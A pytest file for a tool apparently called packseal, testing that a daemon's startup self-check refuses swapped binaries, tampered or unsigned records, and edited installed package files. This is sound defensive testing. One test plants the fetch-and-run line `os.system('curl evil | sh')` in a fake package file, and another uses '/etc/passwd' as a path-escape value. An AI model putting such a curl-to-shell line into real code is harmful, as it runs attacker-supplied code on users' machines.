"""The startup self-check: a daemon that runs a swapped binary or a stale record refuses to start.

The daemon here is real: a copy of this interpreter's executable, started in
a child process that runs the two lines a daemon adds. So `/proc/self/exe`
is the copy, and replacing the copy's path on disk after the start is the
attack ARCHITECTURE.md says the check must see through.
"""

import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

from attest.canonical import canonical_json
from signing import selfcheck
from signing.backends.minisign import MinisignKeyring, generate_key_pair, key_id
from signing.errors import OutputError, SelfCheckError
from signing.selfcheck import check_self, record_self, signature_path

REPO = Path(selfcheck.__file__).resolve().parents[1]
CHILD_PYTHONPATH = os.pathsep.join([str(REPO), sysconfig.get_paths()["purelib"]])

DAEMON = """
import sys
from signing.selfcheck import check_self
check_self(sys.argv[1], public_key=sys.argv[2] if len(sys.argv) > 2 else None)
print("started")
"""

WAIT_THEN_CHECK = """
import json, sys
from signing.errors import SelfCheckError
from signing.selfcheck import check_self
print("waiting", flush=True)
sys.stdin.readline()
result = check_self(sys.argv[1], public_key=sys.argv[2])
try:
    check_self(sys.argv[1], public_key=sys.argv[2], binary=sys.executable)
    on_disk = "matches"
except SelfCheckError as err:
    on_disk = str(err)
print(json.dumps({"running": result.to_json(), "on_disk": on_disk}))
"""

CLI = """
from signing.cli import cli, main
from signing.selfcheck_cli import self_group
cli.add_command(self_group, "self")
main()
"""


def _run(executable: Path, code: str, *args: object) -> subprocess.CompletedProcess:
    """Run `code` in a child process started from `executable`, with packseal importable."""
    environment = {**os.environ, "PYTHONPATH": CHILD_PYTHONPATH}
    return subprocess.run(
        [str(executable), "-c", code, *map(str, args)], env=environment, capture_output=True, text=True, timeout=60
    )


@pytest.fixture
def daemon(tmp_path) -> Path:
    """A copy of the interpreter's executable: a real binary that runs, at a path the test owns."""
    path = tmp_path / "bin" / "daemon"
    path.parent.mkdir()
    shutil.copyfile(os.path.realpath(sys.executable), path)
    path.chmod(0o755)
    return path


@pytest.fixture
def trojan(daemon) -> Path:
    """The daemon with bytes appended: still runs, the same command line, another digest."""
    path = daemon.with_name("trojan")
    path.write_bytes(daemon.read_bytes() + b"\0trojan")
    path.chmod(0o755)
    return path


@pytest.fixture
def release_pub(tmp_path, key_pair) -> Path:
    path = tmp_path / "release.pub"
    path.write_bytes(bytes(key_pair.public_key) + b"\n")
    return path


@pytest.fixture
def record(tmp_path, daemon, key_pair) -> Path:
    """The daemon's record, signed with the release key."""
    path = tmp_path / "self.record"
    record_self(daemon, path, secret_key=key_pair.secret_key)
    return path


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _refused(result: subprocess.CompletedProcess) -> str:
    """The daemon did not start; returns the SelfCheckError line it died with."""
    assert result.returncode == 1 and "started" not in result.stdout, result
    return result.stderr.strip().splitlines()[-1]


# --- the daemon's two lines, in a child process of the real binary ----------


def test_the_running_copy_passes_its_signed_record(daemon, record, release_pub):
    result = _run(daemon, DAEMON, record, release_pub)
    assert result.returncode == 0 and result.stdout.strip() == "started", result.stderr


def test_check_hashes_the_running_image_not_the_interpreter_path(daemon, record):
    result = _run(daemon, "from signing.selfcheck import check_self; import json, sys; "
                  "print(json.dumps(check_self(sys.argv[1]).to_json()))", record)
    reported = json.loads(result.stdout)
    assert reported["binary"] == "/proc/self/exe"
    assert reported["sha256"] == _sha256(daemon)


def test_path_replaced_after_start_still_checks_what_runs(daemon, trojan, record, release_pub):
    child = subprocess.Popen(
        [str(daemon), "-c", WAIT_THEN_CHECK, str(record), str(release_pub)],
        env={**os.environ, "PYTHONPATH": CHILD_PYTHONPATH},
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    assert child.stdout.readline() == "waiting\n"
    os.replace(trojan, daemon)
    out, err = child.communicate("go\n", timeout=60)
    assert child.returncode == 0, err
    report = json.loads(out)
    assert report["running"]["sha256"] == json.loads(record.read_bytes())["digest"]
    assert _sha256(daemon) in report["on_disk"], "the path on disk is the trojan now"


def test_the_trojan_refuses_to_start(trojan, record, release_pub):
    message = _refused(_run(trojan, DAEMON, record, release_pub))
    assert message.startswith("signing.errors.SelfCheckError: /proc/self/exe")
    assert _sha256(trojan) in message and json.loads(record.read_bytes())["digest"] in message


def test_record_of_another_binary_is_refused(daemon, trojan, tmp_path, key_pair, release_pub):
    record_of_trojan = tmp_path / "trojan.record"
    record_self(trojan, record_of_trojan, secret_key=key_pair.secret_key)
    message = _refused(_run(daemon, DAEMON, record_of_trojan, release_pub))
    assert _sha256(daemon) in message and _sha256(trojan) in message


def test_record_rewritten_for_the_trojan_fails_its_signature(trojan, record, release_pub):
    tampered = json.loads(record.read_bytes())
    tampered.update(digest=_sha256(trojan), size=trojan.stat().st_size)
    record.write_bytes(canonical_json(tampered))
    message = _refused(_run(trojan, DAEMON, record, release_pub))
    assert "does not verify" in message


def test_record_signed_by_another_key_is_refused(daemon, tmp_path, other_key_pair, release_pub):
    path = tmp_path / "other.record"
    record_self(daemon, path, secret_key=other_key_pair.secret_key)
    assert "which is not trusted" in _refused(_run(daemon, DAEMON, path, release_pub))


def test_unsigned_record_is_refused_when_a_key_is_required(daemon, tmp_path, release_pub):
    path = tmp_path / "unsigned.record"
    record_self(daemon, path)
    assert "cannot read signature file" in _refused(_run(daemon, DAEMON, path, release_pub))


def test_missing_record_is_refused(daemon, tmp_path):
    assert "missing" in _refused(_run(daemon, DAEMON, tmp_path / "absent.record"))


# --- the record itself: everything but one exact, known form is refused -----


@pytest.mark.parametrize(
    "truncate",
    [lambda data: b"", lambda data: data[:1], lambda data: data[: len(data) // 2], lambda data: data[:-1]],
    ids=["empty", "one-byte", "half", "last-byte-cut"],
)
def test_truncated_record_is_refused(daemon, tmp_path, truncate):
    path = tmp_path / "self.record"
    record_self(daemon, path)
    path.write_bytes(truncate(path.read_bytes()))
    with pytest.raises(SelfCheckError, match="not valid JSON"):
        check_self(path, binary=daemon)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"format": 2}, "unsupported record"),
        ({"algorithm": "sha512"}, "unsupported record"),
        ({"digest": "AB" * 32}, "64 lowercase hex"),
        ({"size": -1}, "non-negative integer"),
        ({"size": True}, "non-negative integer"),
        ({"name": ""}, "non-empty string"),
        ({"extra": 1}, "unknown fields \\['extra'\\]"),
        ({"distribution": {"name": "x", "version": "1", "files": [{"path": "/etc/passwd", "sha256": "0" * 64,
                                                                    "size": 0}]}}, "must be relative"),
        ({"distribution": {"name": "x", "version": "1", "files": [
            {"path": "b", "sha256": "0" * 64, "size": 0}, {"path": "a", "sha256": "0" * 64, "size": 0}]}},
         "not sorted by path"),
    ],
)
def test_malformed_record_is_refused(daemon, tmp_path, change, reason):
    path = tmp_path / "self.record"
    record_self(daemon, path)
    path.write_bytes(canonical_json({**json.loads(path.read_bytes()), **change}))
    with pytest.raises(SelfCheckError, match=reason):
        check_self(path, binary=daemon)


def test_record_missing_a_field_is_refused(daemon, tmp_path):
    path = tmp_path / "self.record"
    record_self(daemon, path)
    fields = json.loads(path.read_bytes())
    del fields["size"]
    path.write_bytes(canonical_json(fields))
    with pytest.raises(SelfCheckError, match="missing fields \\['size'\\]"):
        check_self(path, binary=daemon)


def test_record_not_in_canonical_form_is_refused(daemon, tmp_path):
    path = tmp_path / "self.record"
    record_self(daemon, path)
    path.write_bytes(json.dumps(json.loads(path.read_bytes()), indent=1).encode())
    with pytest.raises(SelfCheckError, match="canonical form"):
        check_self(path, binary=daemon)


def test_unsigned_record_refuses_to_leave_a_stale_signature_beside_it(daemon, record):
    signature = signature_path(record).read_bytes()
    with pytest.raises(OutputError, match="would not cover"):
        record_self(daemon, record)
    assert signature_path(record).read_bytes() == signature


def test_without_proc_self_exe_the_interpreter_is_checked(tmp_path, monkeypatch):
    path = tmp_path / "self.record"
    record_self(sys.executable, path)
    monkeypatch.setattr(selfcheck, "RUNNING_IMAGE", tmp_path / "no-proc")
    assert check_self(path).binary == sys.executable


def test_a_keyring_is_accepted_as_the_public_key(daemon, record, key_pair):
    result = check_self(record, public_key=MinisignKeyring([key_pair.public_key]), binary=daemon)
    assert result.signer == f"minisign key {key_id(key_pair.public_key)}"


# --- a Python distribution recorded with the interpreter --------------------


@pytest.fixture
def site_dir(tmp_path, monkeypatch) -> Path:
    """A site directory holding one installed distribution, `fakedaemon` 1.0, on sys.path."""
    site = tmp_path / "site"
    files = {
        "fakedaemon/__init__.py": b"RUN = True\n",
        "fakedaemon/spawn.py": b"def spawn(): ...\n",
        "fakedaemon/__pycache__/spawn.cpython-311.pyc": b"bytecode",
        "fakedaemon-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: fakedaemon\nVersion: 1.0\n",
    }
    for relative, data in files.items():
        (site / relative).parent.mkdir(parents=True, exist_ok=True)
        (site / relative).write_bytes(data)
    # RECORD's hashes are deliberately wrong: the record must hash the files itself.
    lines = [f"{relative},sha256=bogus,1" for relative in files] + ["fakedaemon-1.0.dist-info/RECORD,,"]
    (site / "fakedaemon-1.0.dist-info/RECORD").write_text("\n".join(lines) + "\n")
    monkeypatch.syspath_prepend(str(site))
    return site


@pytest.fixture
def distribution_record(tmp_path, daemon, site_dir) -> Path:
    path = tmp_path / "dist.record"
    record_self(daemon, path, include_distribution="fakedaemon")
    return path


def test_distribution_record_lists_installed_files_but_not_bytecode(distribution_record, site_dir):
    files = json.loads(distribution_record.read_bytes())["distribution"]["files"]
    assert [file["path"] for file in files] == [
        "fakedaemon-1.0.dist-info/METADATA",
        "fakedaemon-1.0.dist-info/RECORD",
        "fakedaemon/__init__.py",
        "fakedaemon/spawn.py",
    ]
    assert files[3]["sha256"] == _sha256(site_dir / "fakedaemon/spawn.py")


def test_unchanged_distribution_passes_even_when_bytecode_is_rewritten(distribution_record, daemon, site_dir):
    (site_dir / "fakedaemon/__pycache__/spawn.cpython-311.pyc").write_bytes(b"recompiled")
    assert check_self(distribution_record, binary=daemon).record.distribution.name == "fakedaemon"


def test_distribution_file_edited_after_recording_is_refused(distribution_record, daemon, site_dir):
    (site_dir / "fakedaemon/spawn.py").write_bytes(b"import os; os.system('curl evil | sh')\n")
    with pytest.raises(SelfCheckError, match="fakedaemon/spawn.py is sha256:") as refused:
        check_self(distribution_record, binary=daemon)
    assert _sha256(site_dir / "fakedaemon/spawn.py") in str(refused.value)


def test_distribution_file_removed_after_recording_is_refused(distribution_record, daemon, site_dir):
    (site_dir / "fakedaemon/__init__.py").unlink()
    with pytest.raises(SelfCheckError, match="__init__.py: missing"):
        check_self(distribution_record, binary=daemon)


def test_distribution_uninstalled_after_recording_is_refused(distribution_record, daemon, site_dir):
    shutil.rmtree(site_dir / "fakedaemon-1.0.dist-info")
    with pytest.raises(SelfCheckError, match="'fakedaemon' is not installed"):
        check_self(distribution_record, binary=daemon)


def test_daemon_refuses_to_start_when_its_python_code_was_edited(distribution_record, daemon, site_dir):
    (site_dir / "fakedaemon/spawn.py").write_bytes(b"# swapped\n")
    child = _run(daemon, f"import sys; sys.path.insert(0, {str(site_dir)!r})\n{DAEMON}", distribution_record)
    assert "fakedaemon/spawn.py is sha256:" in _refused(child)


# --- imports: the check must stay cheap ------------------------------------


def test_check_imports_neither_sigstore_nor_rich(daemon, record, release_pub):
    code = (
        "import sys; from signing.selfcheck import check_self; check_self(sys.argv[1], public_key=sys.argv[2]); "
        "print(sorted({m.split('.')[0] for m in sys.modules} & {'sigstore', 'rich'}))"
    )
    result = _run(daemon, code, record, release_pub)
    assert result.stdout.strip() == "[]", result.stderr


# --- the `packseal self` commands --------------------------------------------


def test_cli_record_then_check_from_the_running_binary(daemon, tmp_path):
    keys = generate_key_pair(tmp_path / "keys", "release", None)
    path = tmp_path / "cli.record"
    made = _run(daemon, CLI, "self", "record", "--binary", daemon, "--out", path, "--minisign-key", keys.secret_key)
    assert made.returncode == 0 and f"wrote {signature_path(path)}" in made.stdout, made.stderr
    checked = _run(daemon, CLI, "self", "check", "--record", path, "--minisign-pubkey", keys.public_key, "--json")
    assert checked.returncode == 0, checked.stderr
    reported = json.loads(checked.stdout)
    assert (reported["ok"], reported["binary"], reported["sha256"]) == (True, "/proc/self/exe", _sha256(daemon))
    assert reported["signer"] == f"minisign key {keys.key_id}"


def test_cli_mismatch_exits_1_with_both_digests_on_one_line(daemon, trojan, record, release_pub):
    checked = _run(trojan, CLI, "self", "check", "--record", record, "--minisign-pubkey", release_pub, "--json")
    assert checked.returncode == 1
    [line] = checked.stderr.splitlines()
    assert line.startswith("packseal: error: /proc/self/exe: sha256:")
    assert _sha256(trojan) in line and _sha256(daemon) in line
    assert json.loads(checked.stdout)["ok"] is False


@pytest.mark.parametrize("problem", ["missing", "malformed", "unsigned"])
def test_cli_fails_closed_with_exit_1(daemon, tmp_path, release_pub, problem):
    path = tmp_path / "self.record"
    if problem != "missing":
        record_self(daemon, path)
    if problem == "malformed":
        path.write_bytes(b"{")
    checked = _run(daemon, CLI, "self", "check", "--record", path, "--minisign-pubkey", release_pub)
    assert checked.returncode == 1 and checked.stdout == ""
    assert checked.stderr.startswith("packseal: error: ") and len(checked.stderr.splitlines()) == 1
